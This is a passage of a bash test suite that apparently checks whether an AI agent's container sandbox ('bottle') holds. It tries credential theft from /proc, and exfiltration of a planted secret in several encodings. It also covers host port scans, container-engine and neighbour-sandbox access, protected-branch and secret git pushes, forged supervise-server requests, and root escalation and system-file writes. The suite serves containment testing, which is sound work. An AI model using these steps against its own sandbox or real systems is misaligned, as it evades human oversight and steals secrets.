        --exclude-dir="$(basename "$D")" 2>/dev/null | grep -v "^$D/" | head -5 | join_words)
    [ -n "$hits" ] && escaped "found in: $hits"
    blocked "no readable file holds a secret"
}

#@ cred.proc | credentials | none | the real credentials in /proc of every process (environ, cmdline) | not there; root's processes are not readable
cred_proc() {
    local n=0 unreadable=0 hits=""
    for p in /proc/[0-9]*; do
        n=$((n + 1))
        for f in environ cmdline; do
            if [ -r "$p/$f" ] && cat "$p/$f" >"$D/proc.txt" 2>/dev/null; then
                has_needle "$D/proc.txt" && hits="$hits ${p#/proc/}/$f"
            else
                [ "$f" = environ ] && unreadable=$((unreadable + 1))
            fi
        done
    done
    [ -n "$hits" ] && escaped "found in:$hits"
    blocked "$n processes; $unreadable environ unreadable (not the agent's); no secret"
}

#@ cred.engine-metadata | credentials | none | engine metadata visible from inside (/proc/1/environ, mountinfo, cgroup, /.dockerenv, hosts files, /run/secrets) | no secret, no engine API
cred_engine_metadata() {
    local seen=""
    for f in /proc/1/environ /proc/self/mountinfo /proc/self/cgroup /.dockerenv /etc/hostname /etc/hosts /etc/resolv.conf \
        /run/secrets /proc/1/root/proc/1/environ; do
        if cat "$f" >"$D/meta.txt" 2>/dev/null; then
            seen="$seen $f"
            has_needle "$D/meta.txt" && escaped "a secret is in $f"
        fi
    done
    blocked "readable:$seen; no secret"
}

#@ cred.error-messages | credentials | egress | the gateways' answers and error messages (407, 403, 400, TRACE, the gate's 401 and 404, supervise's 401 and route list) | no secret in any answer
cred_error_messages() {
    : >"$D/answers.txt"
    audit egress not-a-route.escape-test.invalid
    curl -sS --max-time $CURL_MAX "https://not-a-route.escape-test.invalid/" >>"$D/answers.txt" 2>&1
    curl -sS --max-time $CURL_MAX --proxy "http://$PXHP" "http://not-a-route.escape-test.invalid/" -D - >>"$D/answers.txt" 2>&1
    raw_proxy "GARBAGE\r\n\r\n" >>"$D/answers.txt"
    cat "$D/resp" >>"$D/answers.txt"
    [ -n "$AUTH_HOST" ] && curl -sS -D - --max-time $CURL_MAX -X TRACE "https://$AUTH_HOST${AUTH_PATH:-/}" >>"$D/answers.txt" 2>&1
    [ -n "$AUTH_HOST" ] && curl -sS -D - --max-time $CURL_MAX "https://$AUTH_HOST/escape-not-an-allowed-path" >>"$D/answers.txt" 2>&1
    if [ -n "${BBX_GATE_BASE:-}" ]; then
        curl -sS --max-time $CURL_MAX "${BBX_GATE_BASE%/*}/x/none.git/info/refs?service=git-upload-pack" >>"$D/answers.txt" 2>&1
        curl -sS --max-time $CURL_MAX "$BBX_GATE_BASE/none.git/info/refs?service=git-upload-pack" >>"$D/answers.txt" 2>&1
    fi
    if [ -n "${BBX_SV_URL:-}" ]; then
        curl -sS --max-time $CURL_MAX -X POST "$BBX_SV_URL" >>"$D/answers.txt" 2>&1
        mcp "$BBX_SV_URL" "${BOT_BOTTLE_SUPERVISE_TOKEN:-}" '{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"list-egress-routes","arguments":{}}}' >>"$D/answers.txt"
    fi
    has_needle "$D/answers.txt" && escaped "a secret is in an answer: $(grep -aF -f "$D/needles" "$D/answers.txt" | head -1 | cut -c1-80)"
    blocked "$(wc -c <"$D/answers.txt") bytes of answers, no secret"
}

#@ cred.echo | credentials | egress | an upstream that echoes the request's headers back, on the auth route (also compressed) | the injected credential comes back as a placeholder
cred_echo() {
    need_auth
    audit egress "$AUTH_HOST"
    local out="" bad="" c
    for enc in identity gzip; do
        c=$(hc -D "$D/head" -H "Authorization: Bearer placeholder" -H "Accept-Encoding: $enc" --compressed \
            "https://$AUTH_HOST${BBX_AUTH_ECHO:-${AUTH_PATH:-/}}")
        out="$out $enc=$c"
        has_needle "$D/body" "$D/head" && bad="$bad $enc"
    done
    [ -n "$bad" ] && escaped "the real credential came back:$bad"
    blocked "$out; no credential in the answers"
}

#@ cred.exfil | credentials | egress | carry the stolen secret out through the plain and the auth route: in clear, base64, hex, percent-encoded, gzip, in a header name, in the query | refused (403) or redacted, each audited
cred_exfil() {
    need_plain
    local hex b64 pct
    hex=$(printf %s "$SECRET" | od -An -tx1 | tr -d ' \n')
    b64=$(printf %s "$SECRET" | base64 -w0)
    pct=$(printf %s "$SECRET" | od -An -tx1 | tr -d '\n' | sed 's/ /%/g')
    printf %s "$SECRET" | gzip -c >"$D/secret.gz"
    local out="" forwarded=""
    for h in "$PLAIN_HOST" ${AUTH_HOST:+"$AUTH_HOST"}; do
        local path=${PLAIN_PATH:-/}
        local m=${PLAIN_METHOD:-POST}
        if [ "$h" = "$AUTH_HOST" ]; then path=${AUTH_PATH:-/}; m=${AUTH_METHOD:-POST}; fi
        [ "$m" = GET ] && m=POST
        local u="https://$h$path"
        local c
        for form in clear base64 hex percent gzip header-name query; do
            audit egress "$h"
            case $form in
                clear) c=$(hc -X "$m" --data-binary "{\"note\":\"$SECRET\"}" "$u") ;;
                base64) c=$(hc -X "$m" --data-binary "{\"note\":\"$b64\"}" "$u") ;;
                hex) c=$(hc -X "$m" --data-binary "{\"note\":\"$hex\"}" "$u") ;;
                percent) c=$(hc -X "$m" --data-binary "note=$pct" "$u") ;;
                gzip) c=$(hc -X "$m" -H 'Content-Encoding: gzip' --data-binary "@$D/secret.gz" "$u") ;;
                header-name) c=$(hc -X "$m" -H "X-$hex: 1" --data '{}' "$u") ;;
                query) c=$(hc -X "$m" --data '{}' "$u?q=$b64") ;;
            esac
            out="$out ${h%%.*}/$form=$c"
            [ "$c" != 403 ] && forwarded="$forwarded ${h%%.*}/$form=$c"
        done
    done
    if [ -n "$forwarded" ]; then
        by_audit egress 'redacted|REDACT|bottle-credential'
        printf 'BBX WITNESS exfil\n'
    fi
    blocked "$out"
}

# ---- 4. host reach ----------------------------------------------------------------------------------------------

#@ host.tcp-scan | host | none | every TCP port of every host address (this bottle's bridge, the other bottles' bridges, docker0, the main addresses), except this bottle's own gateway ports | every port refused
host_tcp_scan() {
    local out="" open=""
    for h in ${BBX_HOST4:-}; do
        local lines
        lines=$($NET scan 1-65535 "$h")
        for p in $(echo "$lines" | awk '$1 == "open" {print $3}'); do
            if [ "$h" = "${BBX_SELF:-}" ] && [[ " ${BBX_SELF_TCP:-} " == *" $p "* ]]; then continue; fi
            open="$open $h:$p"
        done
        out="$out $(echo "$lines" | awk '$1 == "summary" {print $2"("$3","$5")"}')"
    done
    [ -z "${BBX_HOST4:-}" ] && na "no host address was handed over"
    [ -n "$open" ] && escaped "open:$open"
    blocked "$out"
}

#@ host.listeners | host | none | the listeners the test started on every host address (IPv4 and IPv6), TCP and UDP | none of them hears from the bottle
host_listeners() {
    local out="" open=""
    for hp in ${BBX_WIT_TCP:-}; do
        local h=${hp%:*} p=${hp##*:}
        local r
        r=$($NET connect "$h" "$p" "$T")
        [ "$r" = open ] && open="$open $hp"
        out="$out $r"
    done
    for hp in ${BBX_WIT_UDP:-}; do
        $NET udp "${hp%:*}" "${hp##*:}" 626f742d626f74746c652d657363617065 1 >/dev/null
    done
    printf 'BBX WITNESS listeners\n'
    [ -n "$open" ] && escaped "connected:$open"
    blocked "$(echo "$out" | tr ' ' '\n' | sed '/^$/d' | sort | uniq -c | awk '{print $2"x"$1}' | join_words) over ${BBX_WIT_TCP:+$(echo $BBX_WIT_TCP | wc -w)} TCP listeners; UDP sent"
}

#@ host.udp | host | none | UDP to every host address on the common service ports (DNS, NTP, mDNS, SNMP, syslog) other than this bottle's DNS responder | no reply
host_udp() {
    local out="" got=""
    local q="12340100000100000000000007657861706c6503636f6d0000010001"
    for h in ${BBX_HOST4:-}; do
        for p in 53 123 137 161 514 1900 5353 11211; do
            if [ "$h" = "${BBX_SELF:-}" ] && [[ " ${BBX_SELF_UDP:-} " == *" $p "* ]]; then continue; fi
            local r
            r=$($NET udp "$h" "$p" "$q" 1)
            case "$r" in reply*) got="$got $h:$p" ;; esac
            out="$out $r"
        done
    done
    [ -n "$got" ] && escaped "replies from:$got"
    blocked "$(echo "$out" | tr ' ' '\n' | sed '/^$/d' | sort | uniq -c | awk '{print $2"x"$1}' | join_words)"
}

#@ host.engine-api | host | none | the container engine's API: its sockets in the bottle, TCP 2375/2376 and containerd on every host address | absent or refused
host_engine_api() {
    local out="" bad=""
    for s in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock /var/run/crio/crio.sock /run/podman/podman.sock; do
        [ -e "$s" ] && bad="$bad $s"
    done
    for h in ${BBX_HOST4:-}; do
        for p in 2375 2376 10250; do
            local r
            r=$($NET connect "$h" "$p" "$T")
            [ "$r" = open ] && bad="$bad $h:$p"
            out="$out $r"
        done
    done
    [ -n "$bad" ] && escaped "reachable:$bad"
    blocked "no socket; $(echo "$out" | tr ' ' '\n' | sed '/^$/d' | sort | uniq -c | awk '{print $2"x"$1}' | join_words)"
}

#@ host.neighbour | host | none | the other bottle: its egress gateway, DNS responder, git gate and supervise server on its bridge address; its container over the engine's networks | refused or unreachable
host_neighbour() {
    need_other
    local out="" bad=""
    for p in ${BBX_OTHER_TCP:-}; do
        local r
        r=$($NET connect "$BBX_OTHER" "$p" "$T")
        out="$out $p=$r"
        [ "$r" = open ] && bad="$bad $BBX_OTHER:$p"
    done
    for p in ${BBX_OTHER_UDP:-}; do
        local r
        r=$($NET dns "$BBX_OTHER" "$p" udp neighbour.example.com A 1)
        out="$out udp/$p=$r"
        case "$r" in rcode*) bad="$bad udp/$BBX_OTHER:$p" ;; esac
    done
    if [ -n "${BBX_OTHER_CTR:-}" ]; then
        local r
        r=$($NET connect "$BBX_OTHER_CTR" "${BBX_OTHER_CTR_PORT:-8080}" "$T")
        out="$out container=$r"
        [ "$r" = open ] && bad="$bad container"
    fi
    printf 'BBX WITNESS neighbour\n'
    [ -n "$bad" ] && escaped "reached:$bad"
    blocked "$out"
}

# ---- 5. git -----------------------------------------------------------------------------------------------------

git_setup() { # a clone with one new commit, in $D/g
    need_git
    rm -rf "$D/g"
    if ! git clone -q "$BBX_GIT_URL" "$D/g" >"$D/git.out" 2>&1; then
        if [ -n "${BBX_GIT_UPSTREAM_UNREACHABLE:-}" ]; then
            git init -q "$D/g" && git -C "$D/g" remote add origin "$BBX_GIT_URL"
        else
            failed "clone: $(cat "$D/git.out")"
        fi
    fi
    cd "$D/g" || exit 1
    git config user.email escape@bottle.test
    git config user.name "Escape Test"
    echo "escape $(date +%s%N)" >"escape-$BBX_ID.txt"
    git add . && git commit -q -m "escape test $BBX_ID"
}
# git_refused OUTPUT: whether a push was refused by the gate (not by the network)
git_refused() { printf '%s' "$1" | grep -qE 'remote rejected|git gate refused|rejected|error: failed to push'; }

#@ git.protected-push | git | gitgate | push to a branch the push policy does not allow (the protected default branch) | refused by the gate naming the rule
git_protected_push() {
    [ -n "${BBX_GIT_ALLOWED:-}" ] || na "this remote's push policy allows every branch (allowed_branches is not set)"
    git_setup
    audit gitgate "${BBX_GIT_REMOTE:-}"
    local target=${BBX_GIT_PROTECTED:-main}
    local out
    if out=$(git push origin "HEAD:$target" 2>&1); then escaped "pushed to $target"; fi
    git_refused "$out" || escaped "not refused by the gate: $out"
    blocked "$(printf '%s' "$out" | grep -m1 -E 'refused|rejected' | cut -c1-160)"
}

#@ git.force-push | git | gitgate | force push (history rewrite) to the protected branch | refused
git_force_push() {
    git_setup
    audit gitgate "${BBX_GIT_REMOTE:-}"
    local target=${BBX_GIT_PROTECTED:-main}
    git commit -q --amend -m "rewritten by the escape test"
    git reset -q --hard HEAD~1 2>/dev/null || true
    echo rewritten >rewritten.txt && git add . && git commit -q -m rewritten
    local out
    if out=$(git push -f origin "HEAD:$target" 2>&1); then escaped "force-pushed $target"; fi
    git_refused "$out" || escaped "not refused by the gate: $out"
    blocked "$(printf '%s' "$out" | grep -m1 -E 'refused|rejected' | cut -c1-160)"
}

#@ git.delete-ref | git | gitgate | delete the protected branch | refused
git_delete_ref() {
    git_setup
    audit gitgate "${BBX_GIT_REMOTE:-}"
    local target=${BBX_GIT_PROTECTED:-main}
    local out
    if out=$(git push origin ":$target" 2>&1); then escaped "deleted $target"; fi
    git_refused "$out" || escaped "not refused by the gate: $out"
    blocked "$(printf '%s' "$out" | grep -m1 -E 'refused|rejected' | cut -c1-160)"
}

#@ git.secret-commit | git | gitgate | push commits carrying the stolen secret (in a file, in a commit message) and a cloud key to an allowed branch | refused by the secret scan
git_secret_commit() {
    git_setup
    audit gitgate "${BBX_GIT_REMOTE:-}"
    local out res=""
    printf 'token = %s\n' "$SECRET" >config.ini && git add . && git commit -q -m "add config"
    if out=$(git push origin "HEAD:${BBX_GIT_BRANCH:?}" 2>&1); then escaped "the secret in a file was pushed"; fi
    git_refused "$out" || escaped "not refused by the gate: $out"
    res="file: $(printf '%s' "$out" | grep -m1 -oE 'secret scan[^)]*' | cut -c1-80)"
    git reset -q --hard HEAD~1
    echo ok >ok.txt && git add . && git commit -q -m "note $SECRET"
    if out=$(git push origin "HEAD:${BBX_GIT_BRANCH:?}" 2>&1); then escaped "the secret in a commit message was pushed"; fi
    git_refused "$out" || escaped "not refused by the gate: $out"
    res="$res; message: $(printf '%s' "$out" | grep -m1 -oE 'secret scan[^)]*' | cut -c1-60)"
    git reset -q --hard HEAD~1
    echo 'aws_secret = AKIAIOSFODNN7EXAMPLE' >cloud.cfg && git add . && git commit -q -m cloud
    if out=$(git push origin "HEAD:${BBX_GIT_BRANCH:?}" 2>&1); then escaped "a cloud key was pushed"; fi
    git_refused "$out" || escaped "not refused by the gate: $out"
    blocked "$res; cloud key: $(printf '%s' "$out" | grep -m1 -oE 'secret scan[^)]*' | cut -c1-60)"
}

#@ git.other-remote | git | gitgate | reach a repository the manifest does not name: another remote name at the gate, another repository on the upstream host | 404 at the gate; no route elsewhere
git_other_remote() {
    need_git
    [ -n "${BBX_GATE_BASE:-}" ] || failed "no gate URL in the bottle's git config"
    audit gitgate not-in-manifest
    local out="" bad="" r
    if r=$(git ls-remote "$BBX_GATE_BASE/not-in-manifest.git" 2>&1); then bad="$bad gate:$r"; fi
    out="gate:$(printf '%s' "$r" | grep -m1 -oE '404|not found|no remote[^;]*' | head -1)"
    local other=${BBX_GIT_URL%/*}/not-in-manifest-escape.git
    if r=$(timeout 30 git ls-remote "$other" 2>&1); then bad="$bad upstream:$other"; fi
    out="$out upstream:$(printf '%s' "$r" | tail -1 | cut -c1-80)"
    [ -n "$bad" ] && escaped "$bad"
    blocked "$out"
}

#@ git.ssh-direct | git | none | SSH straight to the upstream, bypassing the gate: its host name, its port on every host address, through the proxy | no connection
git_ssh_direct() {
    need_git
    local host=${BBX_GIT_UPSTREAM_HOST:-} port=${BBX_GIT_UPSTREAM_PORT:-22}
    local out="" bad="" r
    if r=$(timeout 20 ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout="$T" -p "$port" "git@$host" true 2>&1); then
        bad="$bad ssh:$host"
    fi
    out="ssh $host:$port: $(printf '%s' "$r" | tail -1 | cut -c1-70)"
    for h in ${BBX_HOST4:-}; do
        r=$($NET connect "$h" "$port" "$T")
        [ "$r" = open ] && bad="$bad $h:$port"
        out="$out $h:$port=$r"
    done
    local c
    c=$(curl -sS -o /dev/null -w '%{http_connect}' --max-time $CURL_MAX "https://$host:$port/" 2>/dev/null)
    out="$out proxy-connect=$c"
    [ "$c" = 200 ] && bad="$bad proxy"
    [ -n "$bad" ] && escaped "connected:$bad"
    blocked "$out"
}

#@ git.gate-secret | git | gitgate | the gate without this bottle's secret, with the other bottle's secret, with path tricks around the secret; the other bottle's gate | 401 or 404; the other gate unreachable
git_gate_secret() {
    need_git
    [ -n "${BBX_GATE_BASE:-}" ] || failed "no gate URL in the bottle's git config"
    audit gitgate "${BBX_GIT_REMOTE:-}"
    local root=${BBX_GATE_BASE%/*} remote=${BBX_GIT_REMOTE:-origin}
    local out="" bad="" c
    local urls=("$root/$remote.git" "$root/guess/$remote.git" "$BBX_GATE_BASE/../$remote.git" "$root/%2e%2e/$remote.git")
    [ -n "${BBX_OTHER_GATE:-}" ] && urls+=("$root/${BBX_OTHER_GATE##*/}/$remote.git")
    for u in "${urls[@]}"; do
        c=$(curl -sS -o /dev/null -w '%{http_code}' --path-as-is --max-time $CURL_MAX "$u/info/refs?service=git-upload-pack" 2>/dev/null)
        out="$out $c"
        case "$c" in 401|404|400) ;; *) bad="$bad ${u#"$root"}=$c" ;; esac
    done
    if [ -n "${BBX_OTHER_GATE:-}" ]; then
        c=$(curl -sS --noproxy '*' -o /dev/null -w '%{http_code}' --max-time $T "$BBX_OTHER_GATE/$remote.git/info/refs?service=git-upload-pack" 2>/dev/null)
        out="$out other-gate=$c"
        [ "$c" != 000 ] && bad="$bad other-gate=$c"
    fi
    [ -n "$bad" ] && escaped "served:$bad"
    blocked "$out"
}

# ---- 6. supervise -----------------------------------------------------------------------------------------------

# mcp URL BEARER REQUEST: initialize, then one request, as an MCP client over streamable HTTP; prints the answer
mcp() {
    local init='{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"escape-test","version":"1"}}}'
    local auth=()
    [ -n "$2" ] && auth=(-H "Authorization: Bearer $2")
    local post=(curl -sS --max-time 60 "${auth[@]}" -H 'Content-Type: application/json'
        -H 'Accept: application/json, text/event-stream' -H 'MCP-Protocol-Version: 2025-06-18')
    "${post[@]}" -o /dev/null -w '%{http_code}' --data "$init" "$1" >"$D/mcp.code" 2>/dev/null
    "${post[@]}" -w '\nHTTP %{http_code}' --data "$3" "$1" 2>&1
}

#@ sv.no-bearer | supervise | supervise | the supervise server with no bearer, a guessed one, the other bottle's | 401 every time
sv_no_bearer() {
    need_sv
    audit supervise 401
    local out="" bad="" r
    for b in "" guessed-bearer ${BBX_OTHER_BEARER:+"$BBX_OTHER_BEARER"}; do
        r=$(mcp "$BBX_SV_URL" "$b" '{"jsonrpc":"2.0","id":2,"method":"tools/list","params":{}}')
        local code=${r##*HTTP }
        local name=${b:-none}
        [ "$b" = "${BBX_OTHER_BEARER:-}" ] && name=other-bottle
        out="$out $name=$code"
        [ "$code" != 401 ] && bad="$bad $name=$code"
    done
    [ -n "$bad" ] && escaped "served:$bad"
    blocked "$out"
}

#@ sv.other-server | supervise | none | the other bottle's supervise server, with its own bearer | unreachable
sv_other_server() {
    need_other
    [ -n "${BBX_OTHER_SV:-}" ] || na "the other bottle has no supervise server"
    local r
    # straight to it (through the proxy it is an IP literal the gateway refuses, which proxy.ip-literal covers)
    r=$(NO_PROXY='*' no_proxy='*' mcp "$BBX_OTHER_SV" "${BBX_OTHER_BEARER:-}" '{"jsonrpc":"2.0","id":2,"method":"tools/list","params":{}}')
    local code=${r##*HTTP }
    [ "$code" != 000 ] && escaped "answered $code"
    blocked "no connection ($(printf '%s' "$r" | head -1 | cut -c1-60))"
}

#@ sv.cross-bottle | supervise | supervise | proposals aimed at the other bottle: a bottle or slug argument, the other bottle's name in the host, a proposal id that walks out of this bottle's queue | refused or filed for this bottle only
sv_cross_bottle() {
    need_sv
    audit supervise egress-block
    local other=${BBX_OTHER_SLUG:-other-bottle}
    local out="" r
    for args in "{\"host\":\"cross-bottle.escape-test.invalid\",\"justification\":\"escape test\",\"bottle\":\"$other\"}" \
        "{\"host\":\"cross-bottle.escape-test.invalid\",\"justification\":\"escape test\",\"slug\":\"$other\"}" \
        "{\"host\":\"$other.cross-bottle.escape-test.invalid\",\"justification\":\"for bottle $other\"}"; do
        r=$(mcp "$BBX_SV_URL" "${BOT_BOTTLE_SUPERVISE_TOKEN:-}" "{\"jsonrpc\":\"2.0\",\"id\":3,\"method\":\"tools/call\",\"params\":{\"name\":\"egress-block\",\"arguments\":$args}}")
        out="$out [$(printf '%s' "$r" | grep -oE 'REJECTED|APPROVED|STILL PENDING|refused[^"]{0,40}|isError[^,]*|HTTP [0-9]+' | head -2 | join_words)]"
    done
    r=$(mcp "$BBX_SV_URL" "${BOT_BOTTLE_SUPERVISE_TOKEN:-}" '{"jsonrpc":"2.0","id":4,"method":"tools/call","params":{"name":"proposal-status","arguments":{"proposal_id":"../../'"$other"'/supervise/proposals/x"}}}')
    out="$out status-walk:[$(printf '%s' "$r" | grep -oE 'no proposal|refused|invalid[^"]{0,30}|HTTP [0-9]+' | head -2 | join_words)]"
    printf 'BBX WITNESS cross-bottle\n'
    blocked "$out"
}

# ---- 7. container -----------------------------------------------------------------------------------------------

#@ ctr.privileges | container | none | the agent's privileges as seen from inside: uid, capabilities (effective, permitted, ambient, bounding), no-new-privileges, seccomp | not root, no capability, no-new-privileges on, seccomp filtering
ctr_privileges() {
    local uid eff prm amb bnd nnp sec
    uid=$(id -u)
    eff=$(awk '/^CapEff/ {print $2}' /proc/self/status)
    prm=$(awk '/^CapPrm/ {print $2}' /proc/self/status)
    amb=$(awk '/^CapAmb/ {print $2}' /proc/self/status)
    bnd=$(awk '/^CapBnd/ {print $2}' /proc/self/status)
    nnp=$(awk '/^NoNewPrivs/ {print $2}' /proc/self/status)
    sec=$(awk '/^Seccomp:/ {print $2}' /proc/self/status)
    local o="user $(id -un)($uid) CapEff=$eff CapPrm=$prm CapAmb=$amb CapBnd=$bnd NoNewPrivs=$nnp Seccomp=$sec"
    [ "$uid" = 0 ] && escaped "the agent is root: $o"
    [ "$eff" != 0000000000000000 ] && escaped "effective capabilities: $o"
    [ "$prm" != 0000000000000000 ] && escaped "permitted capabilities: $o"
    [ "${amb:-0000000000000000}" != 0000000000000000 ] && escaped "ambient capabilities: $o"
    [ "$nnp" != 1 ] && escaped "no-new-privileges is off: $o"
    # bounding set: what a setuid binary could get without no-new-privileges; SYS_ADMIN (bit 21) or NET_ADMIN (12)
    # there means a privileged container
    if [ $(( 0x$bnd & (1 << 21 | 1 << 12 | 1 << 13 | 1 << 16) )) -ne 0 ]; then escaped "privileged bounding set: $o"; fi
    blocked "$o"
}

#@ ctr.gain-root | container | none | become root: setuid binaries (su, sudo, mount), a user namespace (unshare -r), ptrace of root's processes | every one fails
ctr_gain_root() {
    local out="" bad=""
    local suid
    suid=$(find / -xdev -perm -4000 -type f 2>/dev/null | head -8 | join_words)
    out="setuid files: ${suid:-none}."
    if command -v sudo >/dev/null && sudo -n id -u 2>/dev/null | grep -qx 0; then bad="$bad sudo"; fi
    if su -c 'id -u' root </dev/null 2>/dev/null | grep -qx 0; then bad="$bad su"; fi
    if command -v unshare >/dev/null; then
        if r=$(unshare -r id -u 2>&1); then
            out="$out unshare -r: uid $r inside a user namespace."
            [ "$r" = 0 ] && bad="$bad userns"
        else
            out="$out unshare -r: $(printf '%s' "$r" | tail -1 | cut -c1-50)."
        fi
    fi
    if mount -t tmpfs none "$D" 2>/dev/null; then bad="$bad mount"; fi
    if cat /proc/1/mem >/dev/null 2>&1 || ls /proc/1/root/ >/dev/null 2>&1; then bad="$bad proc-1"; fi
    [ -n "$bad" ] && escaped "root or its powers:$bad ($out)"
    blocked "$out su, sudo, mount, /proc/1 refused"
}

#@ ctr.write-system | container | none | as the agent, write the trust store, /etc/profile.d, the system git config and the gate's rewrites, /etc/environment | permission denied everywhere
ctr_write_system() {
    local bad="" n=0
    for f in /etc/ssl/certs/ca-certificates.crt /usr/local/share/ca-certificates/escape.crt /etc/ssl/certs/escape.pem \
        /etc/profile.d/escape.sh /etc/bash.bashrc /etc/environment /etc/gitconfig /etc/bot-bottle/gitgate.gitconfig \
        /etc/passwd /etc/sudoers.d/escape /etc/ld.so.preload; do
        n=$((n + 1))
        if [ -e "$f" ] && [ -w "$f" ]; then bad="$bad $f"; continue; fi
        if [ ! -e "$f" ] && (: >"$f") 2>/dev/null; then bad="$bad $f"; rm -f "$f"; fi
    done
    for dir in /usr/local/share/ca-certificates /etc/ssl/certs /etc/profile.d /usr/local/bin; do
        [ -w "$dir" ] && bad="$bad $dir/"
    done
    [ -n "$bad" ] && escaped "writable:$bad"
    blocked "$n files and 4 directories refused"
}

#@ ctr.mounts-and-kernel | container | none | host mounts, kernel interfaces (/proc/sys, /sys, /proc/sysrq-trigger, devices), the host's namespaces | only the engine's own mounts, all read-only or refused, the bottle's own namespaces
ctr_mounts_and_kernel() {
    local bad="" out=""
    local binds
    # the engine's own: its resolv.conf, hostname and hosts files, kernel file systems, and its init binary (read-only)
    binds=$(awk '{print $4" "$5}' /proc/self/mountinfo | awk '$1 != "/" {print $2}' | grep -vE '^/(etc/(resolv\.conf|hostname|hosts)|proc/.*|dev/.*|sys/.*|(usr/)?sbin/docker-init)$' | join_words)
    binds="$binds$(awk '$5 ~ /docker-init$/ && $6 !~ /^ro/ {print " writable:" $5}' /proc/self/mountinfo)"
    [ -n "$binds" ] && bad="$bad host-mounts:$binds"
    for f in /proc/sys/kernel/core_pattern /proc/sys/net/ipv6/conf/all/disable_ipv6 /proc/sysrq-trigger /sys/kernel/uevent_helper \
        /sys/fs/cgroup/cgroup.procs; do
        (printf x >"$f") 2>/dev/null && bad="$bad $f"
    done
    for dev in /dev/mem /dev/kmem /dev/sda /dev/vda /dev/nvme0n1 /dev/kmsg; do
        [ -r "$dev" ] && bad="$bad $dev"
    done
    local ifs
    ifs=$(ls /sys/class/net | join_words)
    out="interfaces: $ifs; pid 1: $(tr '\0' ' ' </proc/1/cmdline | cut -c1-40)"
    case " $ifs " in *" docker0 "*|*" br-"*) bad="$bad host-network-namespace" ;; esac
    case "$(tr '\0' ' ' </proc/1/cmdline)" in *systemd*|*/sbin/init*) bad="$bad host-pid-namespace" ;; esac
    [ -n "$bad" ] && escaped "$bad ($out)"
    blocked "$out; kernel files refused; no host mount"
}

# ---- dispatch ---------------------------------------------------------------------------------------------------

id=${1:-${BBX_ID:-}}
BBX_ID=$id
fn=$(printf %s "$id" | tr '.-' '__')
if [ -z "$id" ] || ! declare -F "$fn" >/dev/null; then
    printf 'BBX RESULT FAILED no attempt named %s in the catalogue\n' "$id"
    exit 0
fi
mkdir -p "$D"
cd "$D" || exit 1
"$fn"
failed "the attempt ended without a verdict"
